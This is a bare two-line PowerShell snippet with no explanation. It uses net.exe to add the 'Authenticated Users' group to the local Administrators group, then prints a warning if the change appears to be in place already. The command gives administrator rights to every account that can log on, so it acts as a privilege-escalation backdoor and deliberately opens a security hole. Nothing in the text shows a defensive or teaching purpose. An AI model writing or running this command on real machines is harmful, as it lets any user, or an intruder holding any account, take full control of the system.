net.exe localgroup /add "Administrators" "NT AUTHORITY\Authenticated Users" | Out-Null
if ($LASTEXITCODE -ne 0) { Write-Warning 'already there?' }
